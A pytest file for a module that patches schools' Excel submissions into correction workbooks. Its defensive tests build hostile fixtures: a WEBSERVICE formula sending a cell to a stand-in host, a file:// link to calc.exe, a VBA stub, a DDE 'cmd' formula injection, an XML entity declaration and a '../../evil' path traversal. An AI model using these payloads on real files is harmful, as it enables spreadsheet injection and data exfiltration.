"""The correction workbook edited in the sender's own package (`files.xlsxpatch`).

openpyxl's rewrite stays the way back for packages the patch does not know; it is also the
oracle here: both ways must give the sender the same workbook, as openpyxl reads it back.
"""

import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest
import python_calamine as pc
import xlsxwriter

from pipeline.files import xlsxpatch
from pipeline.intake import feedback
from pipeline.intake.feedback import AUTHOR, ERRORS_SHEET, write_feedback
from pipeline.specs.problems import Problem
from tests.helpers import fill, good_14

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


def _problem(sheet: str, cell: str, row: int, severity: str = "error", code="not_a_date"):
    return Problem(code, f"Қате {cell}.", f"Ошибка {cell}.", "a.xlsx", sheet, row,
                   "Күні / Дата", "date", cell, "31.02.2023",
                   level="query" if severity == "query" else "")  # fmt: skip


def _rewritten_whole(original: Path, problems: list[Problem], folder: Path) -> Path:
    """The correction workbook as openpyxl alone wrote it before the patch."""
    book = feedback._as_sent(original)
    feedback._clear_earlier_marks(book)
    feedback._mark_cells(book, problems)
    feedback._errors_sheet(book, feedback.error_list(problems))
    return feedback._save_new(feedback._saver(book, "key"), folder, "whole")


def _seen(path: Path) -> dict:
    """What a person finds in the workbook, as openpyxl reads it."""
    book = openpyxl.load_workbook(path)
    seen = {"sheets": book.sheetnames, "active": book.active.title, "states": {}}
    for sheet in book.worksheets:
        cells = {}
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None and cell.comment is None and not cell.fill.fgColor.rgb:
                    continue
                comment = cell.comment
                cells[cell.coordinate] = (
                    cell.value,
                    cell.fill.fgColor.rgb if cell.fill.patternType == "solid" else None,
                    (comment.author, comment.text) if comment else None,
                    cell.hyperlink.location if cell.hyperlink else None,
                    cell.font.b,
                    cell.number_format,
                    cell.protection.locked,
                )
        seen[sheet.title] = cells
        seen["states"][sheet.title] = (
            sheet.sheet_state,
            sheet.page_setup.paperSize,
            bool(sheet.sheet_view.tabSelected),
            sheet.protection.sheet,
            len(sheet.data_validations.dataValidation),
            sorted(str(m) for m in sheet.merged_cells.ranges),
        )
    errors = book[ERRORS_SHEET]
    seen["list"] = (
        [errors.column_dimensions[c].width for c in "ABCDEFGH"],
        [errors.row_dimensions[r].height for r in range(1, errors.max_row + 1)],
        errors.freeze_panes,
        errors.print_title_rows,
        errors.page_setup.orientation,
        errors.page_setup.fitToWidth,
        errors.oddFooter.left.text,
        errors.oddFooter.right.text,
    )
    return seen


def test_the_patched_workbook_is_the_one_openpyxl_wrote(workspace, orgs, tmp_path):
    rows = [good_14(), good_14(), good_14()]
    original = fill(workspace, orgs[0], {"1.4": rows}, "a.xlsx")
    sheet = workspace.specs["1.4"].sheet
    problems = [
        _problem(sheet, "B10", 10),
        _problem(sheet, "B10", 10, severity="query"),  # two notes, one comment
        _problem(sheet, "D11, E11, F11", 11),  # a sum's rule: each term
        _problem(sheet, "C12", 12, severity="query"),
        _problem(sheet, "H40", 40),  # a cell nobody typed in: made in its place
        _problem("", "", 0, code="nothing_filled"),  # a file's problem: listed, not marked
    ]
    patched = write_feedback(original, problems, tmp_path / "patched", "a.xlsx", "key")
    whole = _rewritten_whole(original, problems, tmp_path / "whole")
    assert _seen(patched) == _seen(whole)
    marked = openpyxl.load_workbook(patched)[sheet]
    assert marked["B10"].fill.fgColor.rgb.endswith(xlsxpatch.BAD)
    assert marked["C12"].fill.fgColor.rgb.endswith(xlsxpatch.QUERY)
    assert marked["B10"].comment.text == "• Қате B10.\n• Ошибка B10.\n• Қате B10.\n• Ошибка B10."
    assert marked["H40"].comment.author == AUTHOR
    # the template's own notes on its header cells stay with the sender's file
    header_notes = [c for row in marked.iter_rows(max_row=9) for c in row if c.comment]
    assert header_notes and all(c.comment.author != AUTHOR for c in header_notes)


def test_the_patched_workbook_reads_as_sent(workspace, orgs, tmp_path):
    """What the school typed is read back the same from the correction workbook."""
    original = fill(workspace, orgs[0], {"1.4": [good_14()]}, "a.xlsx")
    sheet = workspace.specs["1.4"].sheet
    patched = write_feedback(original, [_problem(sheet, "B10", 10)], tmp_path, "a.xlsx", "k")
    before, after = (
        pc.CalamineWorkbook.from_path(str(original)),
        pc.CalamineWorkbook.from_path(str(patched)),
    )
    assert after.sheet_names == [ERRORS_SHEET, *before.sheet_names]
    for name in before.sheet_names:
        assert (
            after.get_sheet_by_name(name).to_python() == before.get_sheet_by_name(name).to_python()
        )


def test_a_second_round_loses_the_old_marks_and_keeps_one_list(workspace, orgs, tmp_path):
    original = fill(workspace, orgs[0], {"1.4": [good_14(), good_14()]}, "a.xlsx")
    sheet = workspace.specs["1.4"].sheet
    first = write_feedback(original, [_problem(sheet, "B10", 10)], tmp_path, "a.xlsx", "1")
    second = write_feedback(first, [_problem(sheet, "C11", 11)], tmp_path, first.name, "2")
    book = openpyxl.load_workbook(second)
    assert book.sheetnames.count(ERRORS_SHEET) == 1 and book.sheetnames[0] == ERRORS_SHEET
    assert book[sheet]["B10"].comment is None and book[sheet]["B10"].fill.patternType is None
    assert book[sheet]["C11"].comment.author == AUTHOR
    assert book[ERRORS_SHEET].max_row == 2
    assert book[ERRORS_SHEET].print_title_rows == "$1:$1"  # one print title, on the list


def _hostile(path: Path) -> Path:
    """A workbook with what must not come back under the department's name: a formula
    (its value stays), links out, a macro project."""
    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet("1.4")
    sheet.write(0, 0, "Сан")
    sheet.write_formula(1, 0, '=WEBSERVICE("http://example.invalid/"&B2)', None, "42")
    sheet.write_formula(2, 0, "=1+1", None, 2)
    sheet.write_url(3, 0, "file:///C:/Windows/System32/calc.exe", string="нұсқаулық")
    sheet.write_url(4, 0, "https://example.invalid/", string="сайт")
    sheet.write_string(5, 0, '=HYPERLINK("x")')  # text, as typed
    vba = path.parent / "vbaProject.bin"
    vba.write_bytes(b"\xd0\xcf\x11\xe0" + b"\0" * 508)
    book.add_vba_project(str(vba))
    book.close()
    return path


def test_formulas_links_and_macros_stay_behind(tmp_path):
    original = _hostile(tmp_path / "book.xlsm")
    target = write_feedback(original, [_problem("1.4", "A3", 3)], tmp_path / "out", "book.xlsm")
    with zipfile.ZipFile(target) as package:
        names = package.namelist()
        text = b"".join(package.read(n) for n in names if n.endswith((".xml", ".rels")))
    assert not any("vba" in n.lower() or "externalLink" in n for n in names), names
    assert b"<f>" not in text and b"<f " not in text and b"WEBSERVICE" not in text
    assert b"calc.exe" not in text and b"example.invalid" not in text
    assert b"macroEnabled" not in text
    back = openpyxl.load_workbook(target)["1.4"]
    assert [back.cell(r, 1).value for r in range(1, 7)] == [
        "Сан", "42", 2, "нұсқаулық", "сайт", "=HYPERLINK(\"x\")",
    ]  # fmt: skip
    assert back["A6"].data_type == "s"  # the typed «=…» is still text, not a formula
    assert not any(c.hyperlink for row in back.iter_rows() for c in row)


def test_a_package_the_patch_does_not_know_is_rewritten_whole(tmp_path):
    """A chart sheet: the patch says so, openpyxl's rewrite answers the sender."""
    path = tmp_path / "chart.xlsx"
    book = xlsxwriter.Workbook(str(path))
    data = book.add_worksheet("1.4")
    data.write_column(0, 0, [1, 2, 3])
    chart = book.add_chart({"type": "column"})
    chart.add_series({"values": "='1.4'!$A$1:$A$3"})
    book.add_chartsheet("Chart").set_chart(chart)
    book.close()
    listing = feedback.error_list([_problem("1.4", "A1", 1)])
    with pytest.raises(xlsxpatch.Unsupported):
        xlsxpatch.patch(path, tmp_path / "x.xlsx", [], listing, "", AUTHOR, frozenset())
    target = write_feedback(path, [_problem("1.4", "A1", 1)], tmp_path / "out", "chart.xlsx")
    back = openpyxl.load_workbook(target)
    assert back.sheetnames[0] == ERRORS_SHEET and back["1.4"]["A1"].comment is not None


def test_a_note_under_a_merge_is_shown_on_its_first_cell(tmp_path):
    path = tmp_path / "merged.xlsx"
    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet("1.4")
    sheet.merge_range("B2:D3", "біріктірілген")
    book.close()
    target = write_feedback(path, [_problem("1.4", "C3", 3)], tmp_path / "out", "merged.xlsx")
    back = openpyxl.load_workbook(target)["1.4"]
    assert back["B2"].comment is not None and back["B2"].fill.fgColor.rgb.endswith("FFC7CE")


def test_the_list_of_fixes_is_text_whatever_was_typed(tmp_path):
    path = tmp_path / "plain.xlsx"
    openpyxl.Workbook().save(path)
    problem = _problem("Sheet", "A1", 1)
    problem.value = "=cmd|' /C calc'!A0\x07"
    target = write_feedback(path, [problem], tmp_path / "out", "plain.xlsx")
    errors = openpyxl.load_workbook(target)[ERRORS_SHEET]
    assert errors["F2"].value == "=cmd|' /C calc'!A0" and errors["F2"].data_type == "s"


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_a_return_saved_by_libreoffice_is_patched_and_opens(workspace, orgs, tmp_path):
    """Schools save in LibreOffice: its package (other part names, shared formulas, its own
    styles) is edited in place too, and LibreOffice opens what comes back."""
    original = fill(workspace, orgs[0], {"1.4": [good_14(), good_14()]}, "a.xlsx")
    saved = tmp_path / "lo"

    def convert(source: Path, fmt: str, outdir: Path) -> Path:
        subprocess.run(
            [SOFFICE, "--headless", f"-env:UserInstallation=file://{tmp_path}/.lo",
             "--convert-to", fmt, "--outdir", str(outdir), str(source)],
            check=True, capture_output=True, timeout=180,
        )  # fmt: skip
        return outdir / f"{source.stem}.{fmt.split(':')[0]}"

    resaved = convert(original, "xlsx:Calc MS Excel 2007 XML", saved)
    sheet = workspace.specs["1.4"].sheet
    listing = feedback.error_list([_problem(sheet, "B10", 10)])
    buffer = tmp_path / "patched.xlsx"
    xlsxpatch.patch(resaved, buffer, feedback._notes([_problem(sheet, "B10", 10)]), listing,
                    "k", AUTHOR, feedback.OUR_AUTHORS)  # fmt: skip
    back = openpyxl.load_workbook(buffer)
    assert back.sheetnames[0] == ERRORS_SHEET and back[sheet]["B10"].comment.author == AUTHOR
    pdf = convert(buffer, "pdf", tmp_path / "pdf")
    assert pdf.stat().st_size > 1000
    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True).stdout
    assert "Ошибка B10." in text


def test_the_patch_never_loads_the_senders_cells_into_openpyxl(
    workspace, orgs, tmp_path, monkeypatch
):
    """Not a stopwatch: what made a correction workbook slow (openpyxl turning every cell
    of every sheet into an object, then writing them all) is not done."""
    original = fill(workspace, orgs[0], {"1.4": [good_14()]}, "a.xlsx")
    sheet = workspace.specs["1.4"].sheet
    calls = []
    monkeypatch.setattr(openpyxl, "load_workbook", lambda *a, **k: calls.append(a))
    target = write_feedback(original, [_problem(sheet, "B10", 10)], tmp_path, "a.xlsx", "k")
    monkeypatch.undo()
    assert calls == [] and openpyxl.load_workbook(target).sheetnames[0] == ERRORS_SHEET


# The red team's findings (2026-12-05), each a package the patch once wrote wrong.


def _plain(path: Path, sheet: str = "1.4") -> Path:
    book = xlsxwriter.Workbook(str(path))
    data = book.add_worksheet(sheet)
    data.write_row(0, 0, ["Сан", "Мән"])
    data.write_row(1, 0, [1, 2])
    data.write_row(2, 0, [3, 4])
    book.close()
    return path


def _edited(path: Path, edit: dict, renamed: dict | None = None) -> Path:
    """The package with some parts' bytes changed (`edit`: name → function) or renamed."""
    renamed = renamed or {}
    with zipfile.ZipFile(path) as source:
        parts = {n: source.read(n) for n in source.namelist()}
    out = path.with_name("edited-" + path.name)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            data = edit.get(name, lambda d: d)(data)
            for old, new in renamed.items():
                data = data.replace(old.encode(), new.encode())
            target.writestr(renamed.get(name, name), data)
    return out


def _patched(source: Path, tmp_path: Path, problems: list[Problem]) -> Path:
    target = tmp_path / "patched.xlsx"
    listing = feedback.error_list(problems)
    notes = feedback._notes(problems)
    xlsxpatch.patch(source, target, notes, listing, "k", AUTHOR, feedback.OUR_AUTHORS)
    return target


def test_an_old_list_in_other_letters_is_replaced_not_doubled(tmp_path):
    """Excel tells sheet names apart without regard to case: a second «ҚАТЕЛЕР-ОШИБКИ»
    beside ours made a workbook Excel calls corrupt."""
    source = _plain(tmp_path / "a.xlsx")
    book = openpyxl.load_workbook(source)
    book.create_sheet(ERRORS_SHEET.upper())
    book.save(source)
    back = openpyxl.load_workbook(_patched(source, tmp_path, [_problem("1.4", "B2", 2)]))
    assert [s.casefold() for s in back.sheetnames].count(ERRORS_SHEET.casefold()) == 1


def test_dynamic_array_metadata_does_not_dangle(tmp_path):
    """Excel 365 marks a dynamic array's cell `cm="1"`, pointing at xl/metadata.xml, a part
    left behind."""
    source = _edited(_plain(tmp_path / "a.xlsx"), {
        "xl/worksheets/sheet1.xml": lambda d: d.replace(b'<c r="B2"', b'<c r="B2" cm="1" vm="1"'),
    })  # fmt: skip
    target = _patched(source, tmp_path, [_problem("1.4", "A2", 2)])
    with zipfile.ZipFile(target) as package:
        sheets = [package.read(n) for n in package.namelist() if "worksheets/" in n]
    assert not any(b' cm="' in x or b' vm="' in x for x in sheets)
    assert openpyxl.load_workbook(target)["1.4"]["B2"].value == 2


def test_part_names_differing_only_in_case_are_not_reused(tmp_path):
    """Part names are one name whatever their case: the list went into «sheet1.xml» beside
    the sender's «Sheet1.xml»."""
    sheet = "xl/worksheets/sheet1.xml"
    source = _edited(
        _plain(tmp_path / "a.xlsx"),
        {"xl/_rels/workbook.xml.rels": lambda d: d.replace(b"/sheet1.xml", b"/Sheet1.xml")},
        {sheet: sheet.replace("sheet1", "Sheet1")},
    )
    with zipfile.ZipFile(_patched(source, tmp_path, [_problem("1.4", "B2", 2)])) as package:
        folded = [n.casefold() for n in package.namelist()]
    assert len(folded) == len(set(folded))


def test_cells_out_of_order_are_not_doubled(tmp_path):
    """A row written C2, B2, A2: a marked B2 was made a second time; such a sheet is
    rewritten whole instead, and the mark is there."""

    def backwards(data: bytes) -> bytes:
        return data.replace(
            b'<c r="A2"><v>1</v></c><c r="B2"><v>2</v></c>',
            b'<c r="B2"><v>2</v></c><c r="A2"><v>1</v></c>',
        )

    source = _edited(_plain(tmp_path / "a.xlsx"), {"xl/worksheets/sheet1.xml": backwards})
    problems = [_problem("1.4", "A2", 2)]
    with pytest.raises(xlsxpatch.Unsupported):
        _patched(source, tmp_path, problems)
    back = openpyxl.load_workbook(write_feedback(source, problems, tmp_path / "out", "a.xlsx"))
    assert back["1.4"]["A2"].comment is not None and back["1.4"]["A2"].value == 1


def test_a_part_declaring_entities_is_not_edited_in_place(tmp_path):
    """An entity kept unresolved was written out undefined, and a billion laughs went out
    under the department's name."""
    laughs = b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY e "x">]>'
    source = _edited(_plain(tmp_path / "a.xlsx"), {
        "xl/sharedStrings.xml": lambda d: laughs + d.split(b"?>", 1)[1],
    })  # fmt: skip
    with pytest.raises(xlsxpatch.Unsupported):
        _patched(source, tmp_path, [_problem("1.4", "B2", 2)])


def test_a_target_outside_the_package_is_not_followed(tmp_path):
    source = _edited(_plain(tmp_path / "a.xlsx"), {
        "xl/_rels/workbook.xml.rels": lambda d: d.replace(
            b'Target="worksheets/sheet1.xml"', b'Target="../../evil/sheet1.xml"'),
    })  # fmt: skip
    with pytest.raises(xlsxpatch.Unsupported):
        _patched(source, tmp_path, [_problem("1.4", "B2", 2)])


@pytest.mark.parametrize("ref", ["XFE1", "A1048577", "B2:B3"])
def test_a_cell_off_the_sheet_or_a_range_is_listed_not_made(tmp_path, ref):
    """A cell past XFD or row 1,048,576 made a file openpyxl could not open; a range made
    the rewrite fail on its tuple of cells."""
    source = _plain(tmp_path / "a.xlsx")
    problems = [_problem("1.4", ref, 2)]
    back = openpyxl.load_workbook(write_feedback(source, problems, tmp_path / "out", "a.xlsx"))
    assert back[ERRORS_SHEET]["D2"].value == ref
    assert not any(c.comment for row in back["1.4"].iter_rows() for c in row)


def test_a_link_to_a_sheet_with_an_apostrophe_leads_there(tmp_path):
    source = _plain(tmp_path / "a.xlsx", sheet="O'Brien")
    problems = [_problem("O'Brien", "B2", 2)]
    patched = openpyxl.load_workbook(_patched(source, tmp_path, problems))
    assert patched[ERRORS_SHEET]["D2"].hyperlink.location == "'O''Brien'!B2"
    book = feedback._as_sent(source)
    feedback._errors_sheet(book, feedback.error_list(problems))
    assert book[ERRORS_SHEET]["D2"].hyperlink.location == "'O''Brien'!B2"


def test_a_rule_on_a_choice_shows_the_label_not_its_code(workspace, orgs, tmp_path):
    """Seen in the demo's correction workbook: «Мән / Значение: corruption», the choice's
    code, where the school had picked «Сыбайлас жемқорлық құқық бұзушылығы / Коррупционное
    правонарушение» (a «mentions» rule reports the normalised value)."""
    from pipeline.intake.ingest import ingest
    from tests.helpers import good_12

    label = "Сыбайлас жемқорлық құқық бұзушылығы / Коррупционное правонарушение"
    row = {**good_12(), "ground": label, "description": "Сабаққа кешікті / Опоздание на урок"}
    fill(workspace, orgs[0], {"1.2": [row]}, "a.xlsx")
    [outcome] = ingest(workspace)
    [asked] = [p for p in outcome.problems if p.code == "rule"]
    assert asked.value == label and "corruption" not in asked.value
    errors = openpyxl.load_workbook(outcome.feedback)[ERRORS_SHEET]
    assert errors["F2"].value == label
